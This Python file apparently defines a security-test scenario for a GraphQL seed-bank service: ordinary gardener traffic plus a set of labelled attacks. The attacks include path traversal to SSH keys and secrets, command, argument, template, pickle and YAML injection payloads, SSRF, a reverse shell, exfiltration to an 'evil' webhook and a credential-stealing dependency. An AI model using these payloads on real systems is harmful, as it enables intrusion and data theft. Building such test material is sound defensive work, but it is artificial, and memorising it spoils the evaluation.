# SPDX-License-Identifier: Apache-2.0
"""A GraphQL service (graphene, Flask, SQLAlchemy) behind gunicorn."""
import base64
import io
import json
import os
import pickle
import random
import urllib.parse

import attackers
import stage

GARDENERS = ["ida", "olof", "m.sato", "bea", "tomas", "priya", "yusuf",
             "Hans Peter", "o.brien", "zoë-lu"]
TYPES = {"grams": "Float", "collected": "Date", "file": "Upload!"}
FIELDS = {"accession": "{code taxon grams collected tests {day germinated}}",
          "accessions": "{items {code taxon} cursor}",
          "addAccession": "{code taxon}"}
QUERIES = ("me", "accession", "accessions", "statistic")
SCHEMA = "query All { __schema { types { name fields { name } } } }"
TAXONAMES = {
    "__init__.py": "def tidy(name):\n"
                   '    return " ".join(name.split()).capitalize()\n'}
TAXONAMES_NEW = {
    "__init__.py": "from taxonames.ranks import tidy\n",
    "ranks.py": "import json\nimport pkgutil\n\n\ndef tidy(name):\n"
                '    ranks = json.loads(pkgutil.get_data(\n'
                '        "taxonames", "data/ranks.json"))\n'
                '    return " ".join(ranks.get(word, word) for word in\n'
                "                    name.split()).capitalize()\n",
    "data/ranks.json": '{"ssp.": "subsp."}'}

# gardener, taxon, album, photos, tests, season, export, search, caption,
# label, level, layout, collected
DAYS = {
    1: [("ida", "aquilegia  vulgaris", "field", ["IMG_0101.jpg", "pod.png"],
         ["germ-2026-01-07.csv", "germ-2026-01-21.csv"], "2025-spring",
         "all", "", "meadow edge", "PNG", "L", "plain", "2025-07-03"),
        ("olof", "silene dioica", "lab/tray-1", ["IMG_0102.jpg"],
         ["tray1.csv"], "2025-autumn", "silene-jan", "Silene", "north bank",
         "SVG", "M", "formal", "2025-08-19"),
        ("m.sato", "primula veris", "field/plot-3",
         ["primula.jpeg", "IMG_0107.jpg", "seeds-x40.png"],
         ["primula-5C.csv", "primula-15C.csv", "control.csv"], "2025",
         "office.2026-01", "Primula", "plot 3", "PNG", "Q", "plain",
         "2024-05-30"),
        ("bea", "arnica montana", "field", ["arnica.v2.png"], ["a1.csv"],
         "2025-winter", "mountain plants", "a", "alpine house", "SVG", "L",
         "formal", "2025-09-11")],
    2: [("tomas", "campanula patula", "lab/tray-7",
         ["DSC00017.jpg", "DSC00018.jpg"], ["tray 7.csv"], "2026-spring",
         "campanula", "Campanula", "ditch, km 4.2", "PNG", "M", "plain",
         "2025-07-22"),
        ("ida", "dianthus deltoides", "field/plot-12", ["IMG_0144.jpg"],
         ["germ-2026-02-04.csv", "germ-2026-02-18.csv"], "2026",
         "ida-february", "Dianthus", "sandy slope", "SVG", "L", "plain",
         "2025-06-28"),
        ("priya", "gentiana cruciata", "herbarium",
         ["sheet-88.png", "sheet-88-back.png"], ["gentian_gibberellin.csv"],
         "2026-spring", "for the board", "", "limestone 2", "PNG", "Q",
         "formal", "2023-10-01"),
        ("olof", "lychnis flos-cuculi", "lab/tray-2", ["tray2.jpeg"],
         ["tray2.csv"], "2026-winter", "wet meadow", "Lychnis", "pond",
         "SVG", "M", "formal", "2025-08-02")],
    3: [("yusuf", "trollius europaeus", "field", ["P1010020.jpg", "bud.png"],
         ["trollius.csv"], "2026-summer", "yusuf1", "Trollius", "brook",
         "PNG", "L", "plain", "2025-06-15"),
        ("bea", "arnica chamissonis", "lab/tray-4", ["arnica.v3.png"],
         ["a2.csv", "a3.csv"], "2026", "mountain plants 2", "Arnica",
         "alpine house", "SVG", "M", "formal", "2025-09-14"),
        ("m.sato", "primula elatior", "field/plot-5", ["IMG_0190.jpg"],
         ["primula-10C.csv"], "2026-spring", "office.2026-03", "Primula",
         "plot 5", "PNG", "Q", "plain", "2025-05-21")]}
OTHERS = [
    ("Hans Peter", "Poa pratensis ssp. irrigata", "field/plot-3/corner 2",
     ["Wiese (Süd) 1.JPG", "a.gif"], ["Keimprobe Nr. 4.csv"], "2031-sommer",
     "Liste für Jörg", "Poa", "Wiese & Bach, 47.1° N", "PNG", "H", "formal",
     "2031-12-31"),
    ("o.brien", "VIOLA  palustris", "lab/2031/tray-12", ["leaf.webp"],
     ["o.brien.2031.csv", "minus5C.v2.csv"], "2031", "bog_plants.2031",
     "Viola", "bog (east)", "SVG", "L", "plain", "2019-02-28"),
    ("zoë-lu", "Malva moschata", "scans", ["sheet.tiff", "b-2.bmp", "x.png"],
     ["zoë.csv"], "2030 late", "naïve-list", "", "Größe 3", "PNG", "M",
     "loan", "2027-03-01"),
    ("ida", "aquilegia atrata", "field", ["IMG_0301.jpg"],
     ["germ-2026-06-01.csv"], "2026-summer", "all", "", "meadow edge", "SVG",
     "Q", "plain", "2026-05-30")]


def photo(name, side=60):
    """A picture as its name says; of noise, which is large."""
    from PIL import Image  # which only those need who play this
    image = Image.frombytes("RGB", (side, side),
                            random.Random(side).randbytes(3 * side * side))
    file = io.BytesIO()
    kind = name.lower().rpartition(".")[2]
    image.save(file, {"jpg": "jpeg", "tif": "tiff"}.get(kind, kind))
    return file.getvalue()


def counts(day, sown):
    return (f"day,sown,germinated\n{day},{sown},{sown // 2}\n"
            f"{day},{sown},{sown // 3}\n").encode()


class Client:
    """A gardener's program: one token, questions as GraphQL."""

    def __init__(self, browser):
        self.browser = browser
        self.headers = {}
        fetch = browser.fetch
        browser.fetch = lambda path, data=None, headers=None, method=None: (
            fetch(path, data, {**self.headers, **(headers or {})}, method))

    @staticmethod
    def text(field, arguments):
        kinds = ", ".join(f"${name}: {TYPES.get(name, 'String!')}"
                          for name in arguments)
        names = ", ".join(f"{name}: ${name}" for name in arguments)
        return (("query" if field in QUERIES else "mutation") + " Client"
                + (f"({kinds})" if kinds else "") + " { " + field
                + (f"({names})" if names else "") + " "
                + FIELDS.get(field, "") + " }")

    def post(self, query, **variables):
        return self.browser.fetch("/graphql", json.dumps(
            {"query": query, "variables": variables}).encode(),
            {"Content-Type": "application/json"})

    def ask(self, field, **arguments):
        return self.post(self.text(field, arguments), **arguments)

    def value(self, field, **arguments):
        answer = json.loads(self.ask(field, **arguments)[1] or "{}")
        return (answer.get("data") or {}).get(field)

    def file(self, path):
        return self.browser.fetch("/files?" + urllib.parse.urlencode(
            {"path": path}))

    def send(self, field, name, content, kind, **arguments):
        """As the specification of multipart requests has it."""
        arguments["file"] = None
        return self.browser.upload(
            "/graphql", name, content, kind, "0", operations=json.dumps(
                {"query": self.text(field, arguments),
                 "variables": arguments}), map='{"0": ["variables.file"]}')


class GrapheneSeedbank(stage.Service):
    """A seed bank's GraphQL API: accessions, pictures, tests, partners."""
    packages = ["python3-graphene", "python3-flask", "gunicorn",
                "python3-sqlalchemy", "python3-requests", "python3-pil",
                "python3-openpyxl", "python3-yaml", "python3-jinja2",
                "qrencode"]

    def arrange(self):
        stage.write(self.srv / "seedbank.yaml",
                    f"webhook_key: {self.secret}\n", 0o600)
        for name in ("log", "run", "outbox", "archive", "labels", "exports",
                     "certificates"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("taxonames", "1.3.0", TAXONAMES)
        self.seed("var/seedbank.db", self.python, "seed.py", *GARDENERS)

    def arrange_benign(self):
        self.install("taxonames", "1.4.0", TAXONAMES_NEW)

    def command(self):
        return [self.python, "/usr/bin/gunicorn", "--bind",
                f"127.0.0.1:{self.port('web')}", "seedbank.web:app"]

    def is_ready(self):
        return self.browser().get("/healthz")[0] == 200

    # ------------------------------------------------------------ ordinary use
    def open_partners(self):
        for name in ("arboretum", "moorland"):
            site = self.site(name)
            site.page("*", '{"PUID": "https://doi.example/10/x"}')
            site.page("/hooks/full", "try later", 503)
            site.page("/mcpd/none.json", "no such thing", 404)

    def enter(self, name):
        client = Client(self.browser())
        token = client.value("login", name=name, password=name[::-1])
        self.expect(f"{name} enters", token)
        client.headers["Authorization"] = f"Bearer {token}"
        self.expect_answer(f"{name} is known", client.ask("me"), '"me"')
        return client

    def gets(self, client, path, text=b""):
        self.expect_answer(f"get {path}", client.file(path or "none"),
                           text)

    def collect(self, client, code, visit):
        """What came in: an accession, its pictures, its tests."""
        taxon, album, photos, tests, season = visit[1:6]
        self.expect_answer(f"add {code}", client.ask(
            "addAccession", code=code, taxon=taxon, grams=len(taxon) / 4,
            collected=visit[-1]), code)
        for number, name in enumerate(photos):
            content = photo(name, 700 if number == 1 else 60 + number)
            self.expect_answer(f"photo {name}", client.send(
                "addPhoto", name, content, "image/x", code=code,
                album=album), "photos/")
            self.gets(client, f"photos/{code}/{album}/{name}", content)
            self.gets(client, f"thumbs/{code}/{name}.png", b"PNG")
        for name in tests:
            self.expect_answer(f"test {name}", client.send(
                "addTest", name, counts(visit[-1], 50), "text/csv",
                code=code), '"addTest":2')
        self.expect_answer("tests", client.ask("accession", code=code),
                           '"germinated":25')
        for formula in ("germinated / sown * 100", "sown - germinated"):
            self.expect_answer(formula, client.ask(
                "statistic", code=code, formula=formula), '"statistic":"')
        self.gets(client, client.value("archive", code=code, season=season),
                  b"\x1f\x8b")

    def paper(self, client, code, visit):
        """What goes out: labels, lists, certificates."""
        taxon, (name, search, caption, label, level, layout) = (
            visit[1], visit[6:12])
        self.gets(client, client.value(
            "label", code=code, caption=f"{code} {taxon}, {caption}",
            kind=label, level=level), "svg" if label == "SVG" else "PNG")
        for kind, start in (("csv", b"code"), ("json", b"["), ("xlsx", b"PK")):
            self.gets(client, client.value(
                "export", name=name, kind=kind, search=search), start)
        self.expect_answer(f"certificate {code}", client.ask(
            "certificate", code=code, layout=layout, words=(
                f"{caption}: {{{{ accession.grams|round(1) }}}} g")),
            " g")
        self.expect_answer("taxa", client.ask("importTaxa", document=(
            f"- name: {taxon}\n  family: {caption[:4]}\n"
            "- name: poa annua\n")), '"importTaxa":2')

    def browse(self, client, search=""):
        page = client.value("accessions", search=search) or {}
        self.expect(f"list {search}", page.get("items") or search)
        if page.get("cursor"):
            self.expect_answer("next page", client.ask(
                "accessions", after=page["cursor"]), '"items"')

    def tell_partners(self, client, code, hook, message):
        """Both are told, one of them by another address each time."""
        for name in ("arboretum", "moorland"):
            self.expect_answer(f"partner {name}", client.ask(
                "addPartner", name=name, url=self.site(name).url + hook),
                name)
        self.expect_answer("notify", client.ask(
            "notify", code=code, message=message), '"notify":2')
        for name in ("arboretum", "moorland"):
            self.expect(f"{name} is told", stage.wait_for(
                lambda name=name: self.site(name).heard(message)))
            self.expect_answer(f"passport of {name}", client.ask(
                "importPassport",
                url=f"{self.site(name).url}/mcpd/{code}.json"), "PUID")

    def wrong(self, client, code, words, kind):
        """Mistakes people make."""
        stranger = Client(self.browser())
        self.expect_answer("wrong password", stranger.ask(
            "login", name="ida", password=words), "wrong name")
        self.expect_answer("stranger", stranger.ask("me"), "who are you?")
        self.expect_answer("stranger's file", stranger.file(
            f"labels/{code}.png"), status=401)
        self.expect_answer("no such file", client.file(
            f"photos/{code}/{words}.jpg"), status=404)
        self.expect_answer("no accession", client.ask(
            "accession", code=words), "No row")
        self.expect_answer("no picture", client.send(
            "addPhoto", f"{words}.png", b"not one", "image/png", code=code,
            album="field"), "identify")
        self.expect_answer("no table", client.send(
            "addTest", f"{words}.csv", b"a,b\n1,2\n", "text/csv", code=code),
            "errors")
        self.expect_answer("no exporter", client.ask(
            "export", name=words, kind=kind), "No module")
        self.expect_answer("no passport", client.ask(
            "importPassport", url=self.site("moorland").url
            + "/mcpd/none.json"), "404")
        self.expect_answer("no question", client.post(
            "query { " + words), "Syntax", 400)
        self.expect_answer("no field", client.post(
            f"query {{ {kind} }}"), "Cannot query", 400)
        self.expect_answer("no formula", client.ask(
            "statistic", code=code, formula=f"{kind} / 2"), "not defined")

    def unreachable(self, client, code, message):
        """A partner that has no time: kept in the outbox."""
        kept = len(list((self.srv / "var/outbox").iterdir()))
        client.ask("addPartner", name="moorland",
                   url=self.site("moorland").url + "/hooks/full")
        client.ask("notify", code=code, message=message)
        self.expect("kept for later", stage.wait_for(lambda: len(list(
            (self.srv / "var/outbox").iterdir())) > kept))

    def visit(self, code, visit, hook):
        client = self.enter(visit[0])
        self.collect(client, code, visit)
        self.paper(client, code, visit)
        self.browse(client)
        self.browse(client, visit[7])
        self.tell_partners(client, code, hook, f"{code} of {visit[-1]}")
        return client

    def train(self, day):
        self.open_partners()
        visitor = self.browser()
        self.expect_answer("explorer", visitor.get("/"), "Seed bank")
        self.expect_answer("schema", Client(visitor).post(SCHEMA), "Accession")
        hooks = ["/hooks/seedbank", "/api/v2/notify", f"/in/{day}/seeds",
                 f"/hooks/2026-0{day}"]
        for number, visit in enumerate(DAYS[day]):
            code = f"SB-2026-{100 * day + number:04}"
            client = self.visit(code, visit, hooks[number])
            if number == 1:
                self.wrong(client, code, ["oops", "lost", "hm"][day - 1],
                           ["xls", "pdf", "doc"][day - 1])
                self.restart()
        self.unreachable(client, code, f"day {day}")
        self.wrong(client, code, f"typo{day}", "txt")

    def benign(self):
        self.open_partners()
        hooks = ["/webhook/Saatgut 1", "/hooks/2031-12", "/in/9/x?source=sb",
                 "/hooks/seedbank"]
        for number, visit in enumerate(OTHERS):
            code = ["SB-2031-12017", "SB-2027-0712", "SB-2026-9999",
                    "SB-2027-0001"][number]
            client = self.visit(code, visit, hooks[number].replace(" ", "%20"))
        self.wrong(client, "SB-2027-0712", "Größe", "ods")
        self.unreachable(client, "SB-2027-0712", "grüße")
        self.expect_answer("large photo", client.send(
            "addPhoto", "panorama.png", photo("panorama.png", 1300),
            "image/png", code="SB-2027-0712", album="field"), "panorama")
        self.expect_answer("favicon", client.browser.get("/favicon.ico"),
                           status=404)
        self.expect_answer("other method", client.browser.get("/graphql"),
                           status=405)
        self.restart()
        for name in GARDENERS:
            self.browse(self.enter(name))

    def health(self):
        client = self.enter("ida")
        self.expect_answer("accession", client.ask(
            "accession", code="SB-2019-0001"), "Viola")
        self.gets(client, client.value("export", name="all", kind="csv"),
                  b"Viola")

    # ----------------------------------------------------------------- attacks
    def asks(self, field, **arguments):
        return self.enter("ida").ask(field, **arguments)[1]

    def reads(self, path):
        return self.enter("ida").file(path)[1]

    def sends(self, name, content, field="addTest", **more):
        self.enter("ida").send(field, name, content, "text/csv",
                               code="SB-2019-0001", **more)

    def computes(self, expression):
        return self.asks("statistic", code="SB-2019-0001", formula=expression)

    def computes_all(self, code):
        return self.computes(f"exec({code!r}, {{}})")

    @stage.attack("traversal")
    def file_is_a_private_key(self):
        return self.is_told(self.reads("../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def file_is_the_schema(self):
        return b"HOLE" in self.reads("../seedbank/schema.py")

    @stage.attack("secret disclosure")
    def file_is_the_settings(self):
        return self.is_told(self.reads(f"{self.srv}/seedbank.yaml"))

    @stage.attack("write to code", fresh=True)
    def test_becomes_an_exporter(self):
        def use(line):
            self.sends("../../../seedbank/exporters/evil.py",
                       f"import os\nos.system('{line}')\n".encode())
            self.asks("export", name="all", kind="evil")
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def test_replaces_the_profile(self):
        self.sends(f"{self.home}/.profile", b"planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("SSRF")
    def passport_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.asks("importPassport", url=url))

    @stage.attack("SSRF")
    def passport_is_redirected_inside(self):
        return self.is_redirected_inside(
            "arboretum", lambda url: self.asks("importPassport", url=url))

    @stage.attack("exfiltration", fresh=True)
    def partner_is_somebody_else(self):
        evil = self.site("evil")
        evil.page("*", "")
        self.asks("addPartner", name="friends", url=evil.url + "/in")
        self.asks("notify", code="SB-2019-0001", message="rare: Viola")
        return self.happens(lambda: evil.heard("rare: Viola"))

    @stage.attack("command injection")
    def season_runs_a_command(self):
        self.sends("a.csv", counts("2026-01-01", 10))
        return self.runs_line(lambda line: self.asks(
            "archive", code="SB-2019-0001", season=f"2026'; {line}; '"))

    @stage.attack("argument injection")
    def label_holds_the_payroll(self):
        payroll = f"-r{self.place}/payroll/2026.csv"
        wanted = self.loot / "label.svg"
        self.run("qrencode", "-o", wanted, "-t", "SVG", "-l", "L", payroll,
                 wrapped=False)
        self.asks("label", code="SB-2019-0001", caption=payroll, kind="SVG",
                  level="L")
        label = self.srv / "var/labels/SB-2019-0001.svg"
        return label.exists() and label.read_bytes() == wanted.read_bytes()

    @stage.attack("template injection")
    def certificate_holds_the_payroll(self):
        return self.is_told(self.asks(
            "certificate", code="SB-2019-0001", words=(
                "{{ cycler.__init__.__globals__.__builtins__.open("
                f"'{self.place}/payroll/2026.csv').read() }}}}")))

    @stage.attack("unsafe pickle")
    def cursor_runs_a_command(self):
        return self.runs_line(lambda line: self.asks(
            "accessions", after=base64.b64encode(pickle.dumps(
                attackers.Bomb(os.system, line))).decode()))

    @stage.attack("unsafe yaml")
    def taxa_send_credentials(self):
        return self.steals(lambda code: self.asks(
            "importTaxa", document="!!python/object/apply:exec\n- "
            + json.dumps(code) + "\n- {}\n"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.computes)

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(self.computes_all)

    @stage.attack("reverse shell")
    def formula_calls_home(self):
        return self.calls_home(self.computes_all)

    @stage.attack("symlink swap", fresh=True)
    def photo_became_a_link(self):
        self.sends("pod.png", stage.png(9), "addPhoto", album="field")
        path = self.srv / "var/photos/SB-2019-0001/field/pod.png"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.reads(
            "photos/SB-2019-0001/field/pod.png"))

    @stage.attack("malicious dependency", fresh=True)
    def taxonames_sends_credentials(self):
        return self.dependency_steals("taxonames", "1.3.1", TAXONAMES,
                                      self.restart)
